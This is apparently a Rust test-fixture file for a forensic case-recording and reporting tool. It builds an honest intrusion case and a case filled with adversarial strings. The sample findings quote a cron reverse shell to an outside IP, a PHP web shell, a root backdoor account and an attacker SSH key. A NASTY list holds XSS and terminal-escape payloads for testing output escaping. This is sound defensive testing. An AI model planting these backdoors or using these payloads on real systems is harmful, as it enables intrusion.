//! Cases for the tests: an honest one, and one whose every text is hostile.

use std::path::Path;

use casebook::{
    ActDraft, Case, Clock, Completion, Item, Mode, NewCase, Outcome, OutcomeKind, Signer,
    Timestamp, Tool, VerifyOptions,
};
use report::Report;
use serde_json::{Value, json};

pub(crate) struct Bench {
    pub(crate) directory: tempfile::TempDir,
    case: Case,
    signer: Signer,
    minute: u64,
    host: Value,
    writes: u64,
}

impl Bench {
    pub(crate) fn new(name: &str) -> Self {
        let directory = tempfile::tempdir().unwrap();
        let (signer, _) = Signer::generate_unprotected().unwrap();
        let new = NewCase {
            id: "2026-014".to_owned(),
            name: name.to_owned(),
            examiner: "R. Brandt".to_owned(),
            created: "2026-05-03T08:00:00Z".parse().unwrap(),
            tool: tool(),
        };
        let case = Case::create(&directory.path().join("case"), new, signer.public_key()).unwrap();
        let host = json!({
            "firmware": "uefi",
            "kernel": "6.12.48",
            "smbios": { "product_name": "ProServer 2", "product_serial": "PS2-0071" },
        });
        Self { directory, case, signer, minute: 0, host, writes: 0 }
    }

    pub(crate) fn path(&self) -> &Path {
        self.case.dir()
    }

    pub(crate) fn set_host(&mut self, host: Value) {
        self.host = host;
    }

    fn now(&mut self) -> Timestamp {
        self.minute += 7;
        Timestamp::from_unix(1_777_795_200 + self.minute * 60, 0).unwrap()
    }

    /// Counters of two disks: evidence that stays as it is, the examiner's own medium that is written to.
    fn counters(&mut self, sda_writes: u64) -> Value {
        self.writes += 40;
        json!([
            { "disk": "sda", "model": "TESTDISK 512", "serial": "S1AB77", "lock": "locked", "writes": sda_writes,
              "sectors_written": sda_writes * 8, "discards": 0, "sectors_discarded": 0, "flushes": 0 },
            { "disk": "sdb", "model": "USB STICK", "serial": "U-9", "lock": "unlocked", "writes": self.writes,
              "sectors_written": self.writes * 64, "discards": 0, "sectors_discarded": 0, "flushes": 3 },
        ])
    }

    pub(crate) fn draft(&mut self, verb: &str, arguments: Value, inputs: Vec<Item>) -> ActDraft {
        ActDraft {
            who: "R. Brandt".to_owned(),
            mode: Mode::Boot,
            started: self.now(),
            clock: Clock {
                source: "system clock".to_owned(),
                offset_ms: Some(-61_500),
                error_ms: Some(2000),
            },
            host: self.host.clone(),
            tool: tool(),
            verb: verb.to_owned(),
            arguments,
            inputs,
            counters_before: self.counters(0),
        }
    }

    pub(crate) fn act(&mut self, verb: &str, arguments: Value) {
        self.act_with(verb, arguments, Vec::new(), Outcome::done(), &[], 0);
    }

    pub(crate) fn act_with(
        &mut self,
        verb: &str,
        arguments: Value,
        inputs: Vec<Item>,
        outcome: Outcome,
        problems: &[&str],
        sda_writes: u64,
    ) {
        let draft = self.draft(verb, arguments, inputs);
        let mut end = Completion::new(self.now(), outcome);
        end.problems = problems.iter().map(|text| (*text).to_owned()).collect();
        end.counters_after = self.counters(sda_writes);
        self.case.record(draft, end, &self.signer).unwrap();
    }

    /// An act with these counters, whatever they are.
    pub(crate) fn act_counting(&mut self, verb: &str, arguments: Value, counters: &Value) {
        let mut draft = self.draft(verb, arguments, Vec::new());
        draft.counters_before = counters.clone();
        let mut end = Completion::new(self.now(), Outcome::done());
        end.counters_after = counters.clone();
        self.case.record(draft, end, &self.signer).unwrap();
    }

    /// An act that writes one file of an exhibit.
    pub(crate) fn exhibit(
        &mut self,
        verb: &str,
        label: &str,
        file: &str,
        content: &[u8],
        facts: Value,
        inputs: Vec<Item>,
    ) {
        let draft = self.draft(verb, json!({ "source": "sda" }), inputs);
        let ended = self.now();
        let counters_after = self.counters(0);
        let act = self.case.begin(draft, &self.signer).unwrap();
        let exhibit = act.new_exhibit(label).unwrap();
        let mut output = exhibit.add_file(file, content).unwrap();
        output.facts = facts;
        let mut end = Completion::new(ended, Outcome::done());
        end.outputs = vec![output];
        end.counters_after = counters_after;
        act.finish(end).unwrap();
    }

    pub(crate) fn read(&self) -> Report {
        Report::read(self.path(), &VerifyOptions::default()).unwrap()
    }
}

pub(crate) fn tool() -> Tool {
    Tool { name: "glovebox".to_owned(), version: "0.1.0".to_owned(), sha256: "5f".repeat(32) }
}

pub(crate) fn disk() -> Item {
    Item {
        name: "disk sda".to_owned(),
        size_bytes: Some(1 << 30),
        digests: hashing::Digests::default(),
        facts: json!({ "model": "TESTDISK 512", "serial": "S1AB77", "bus": "sata", "lock": "locked" }),
    }
}

pub(crate) fn finding(
    severity: &str,
    rule: &str,
    title: &str,
    path: &str,
    excerpt: &str,
    changed: &str,
) -> Value {
    json!({
        "finding_id": "0123456789abcdef", "rule": rule, "rule_version": 1, "title": title, "severity": severity,
        "confidence": "high", "mitre": ["T1098"], "path": path, "path_hex": null, "inode": 12, "line": 3,
        "offset_bytes": null, "rights": "0644 0:0", "excerpt": excerpt, "detail": "an instance of it",
        "times": { "modified": changed, "changed": changed, "born": null }, "sha256": "ab".repeat(32), "package": null,
        "activation": "active", "why": "It matters because of what it allows.",
        "innocent_explanations": ["An administrator did it on purpose"], "verify_by_hand": "read the line; ask its owner",
    })
}

pub(crate) fn triage_line(address: &str, host: &str, findings: &[Value]) -> Vec<u8> {
    let line = json!({
        "address": address,
        "report": {
            "system": { "name": "Debian GNU/Linux 13", "hostname": host, "timezone": "Europe/Vienna", "kernels": ["6.12.48"] },
            "findings": findings,
            "problems": [{ "kind": "refused", "place": { "path": "/var" }, "text": "/var was not examined" }],
            "coverage": { "file_system": "ext4", "entries": 48_211, "files": 39_107, "packages": 512, "digests_compared": 31_007,
                "rules": 71, "rules_skipped": ["GBX-0901: no PAM"], "not_examined": ["/var"] },
        },
    });
    format!("{line}\n").into_bytes()
}

/// A case as a short incident leaves it.
pub(crate) fn honest() -> Bench {
    let mut bench = Bench::new("Intrusion on web01");
    bench.act("case create", json!({ "name": "Intrusion on web01", "key_protected": true }));
    bench.act("guard unlock", json!({ "disk": "sdb", "model": "USB STICK", "serial": "U-9" }));
    let facts = json!({ "source_size_bytes": 1 << 30, "copied_bytes": 1 << 30, "ending": "every sector was tried",
        "read_back": true, "unreadable": [] });
    bench.exhibit("image", "sda-S1AB77", "image.raw", b"the image", facts, vec![disk()]);
    let findings = [
        finding(
            "critical",
            "GBX-0101",
            "A second account has uid 0",
            "/etc/passwd",
            "toor2:x:0:0::/root:/bin/bash",
            "2026-05-01T03:12:44Z",
        ),
        finding(
            "critical",
            "GBX-0301",
            "A scheduled job opens a connection",
            "/var/spool/cron/crontabs/www-data",
            "* * * * * bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "2026-05-01T03:14:02Z",
        ),
        finding(
            "high",
            "GBX-0706",
            "A kernel module that no package owns",
            "/lib/modules/6.12/extra/nf_hide.ko",
            "",
            "2026-05-01T03:20:31Z",
        ),
        finding(
            "high",
            "GBX-1001",
            "A web page that runs what the visitor sends",
            "/srv/www/up/a.php",
            "<?php system($_GET['c']); ?>",
            "2026-04-30T22:51:09Z",
        ),
        finding(
            "medium",
            "GBX-0201",
            "A key opens root by SSH",
            "/root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3 j@kali",
            "2026-05-01T03:13:10Z",
        ),
        finding(
            "low",
            "GBX-0122",
            "A sudoers file that no package owns",
            "/etc/sudoers.d/90-ops",
            "%ops ALL=(ALL) ALL",
            "2025-11-20T09:00:00Z",
        ),
        finding(
            "info",
            "GBX-0108",
            "Members of a group that amounts to root",
            "/etc/group",
            "sudo:x:27:maria",
            "2025-11-20T09:00:00Z",
        ),
    ];
    bench.exhibit(
        "triage",
        "triage-sda",
        "triage.jsonl",
        &triage_line("sda:2", "web01", &findings),
        Value::Null,
        vec![disk()],
    );
    bench.act("case note", json!({ "what": "The machine was on; power was cut at the switch.", "who": "R. Brandt",
        "where": "rack 4", "when": "2026-05-03T07:55:00Z", "why": "to keep the disk as it was", "how": null }));
    bench.act("case note", json!({ "kind": "lesson", "what": "The web server could write its own pages.", "lesson": true }));
    bench.act("case note", json!({ "kind": "cost", "what": "two examiners", "cost": "16 hours" }));
    bench.act("case custody hand-over", json!({ "exhibit": "001-sda-S1AB77", "from": "R. Brandt", "to": "K. Osei", "where": "evidence room" }));
    bench.act(
        "case contact log",
        json!({ "told": "K. Osei", "what": "first findings", "secured_by": "OpenPGP" }),
    );
    bench.act_with(
        "hash",
        json!({ "source": "sdc" }),
        Vec::new(),
        Outcome::new(OutcomeKind::Failed, "opening sdc: it is not attached"),
        &[],
        0,
    );
    bench.act("future-verb", json!({ "unheard": ["of", 1] }));
    bench
}

/// Names as an attacker would choose them.
pub(crate) const NASTY: [&str; 8] = [
    "</title><script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><style>*{display:none}</style><a href='javascript:alert(3)'>",
    "x\u{202e}fdp.exe\u{2066}\u{200b}\u{feff}",
    "bell\u{7}esc\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
    "two\nlines\r\nBATCH OK\u{2028}",
    "&lt;not twice&amp;#x3c;--> ]]> <!--",
    "zalgo\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{e0041}\u{fffe}\u{0}end",
];

pub(crate) fn hostile() -> Bench {
    let mut bench = Bench::new(NASTY[0]);
    for (index, nasty) in NASTY.iter().enumerate() {
        let long = nasty.repeat(1 + (1 << 20) / nasty.len() * usize::from(index < 2));
        bench.set_host(json!({ *nasty: nasty, "deep": [[[[nasty]]]] }));
        let item = Item {
            name: format!("disk {nasty}"),
            size_bytes: None,
            digests: hashing::Digests::default(),
            facts: json!({ "serial": nasty, "model": long }),
        };
        let outcome = Outcome::new(OutcomeKind::Partial, *nasty);
        bench.act_with(
            &format!("case note {nasty}"),
            json!({ *nasty: long, "lesson": nasty }),
            vec![item],
            outcome,
            &[nasty, &long],
            0,
        );
        bench.act(&format!("case contact {nasty}"), json!({ "name": nasty }));
        bench.act(&format!("case custody {nasty}"), json!(nasty));
        bench.act(nasty, json!([nasty, [nasty]]));
        let mut odd = finding(nasty, nasty, nasty, nasty, &long, "2026-05-01T03:12:44Z");
        odd["sha256"] = json!({ "a": nasty });
        let usual = finding("critical", "GBX-0001", nasty, &long, nasty, nasty);
        let mut line = triage_line(nasty, nasty, &[odd, usual]);
        line.extend_from_slice(b"{\"address\":\"\xff\xfe\",\"report\":{\"findings\":[{\"rule\":\"\xff\",\"severity\":\"high\"},nonsense,{\"severity\":\"high\"}]}}\n{\"half");
        bench.exhibit(
            "triage",
            nasty,
            "triage.jsonl",
            &line,
            json!({ *nasty: nasty }),
            vec![disk()],
        );
    }
    bench
}

/// Writers by name.
pub(crate) type Writer = fn(&Report, &mut dyn std::io::Write) -> Result<(), report::Error>;
pub(crate) const WRITERS: [(&str, Writer); 4] = [
    ("html", report::html),
    ("text", report::text),
    ("json", report::json),
    ("case-uco", report::case_uco),
];

pub(crate) fn written(report: &Report, write: Writer) -> String {
    let mut out = Vec::new();
    write(report, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}
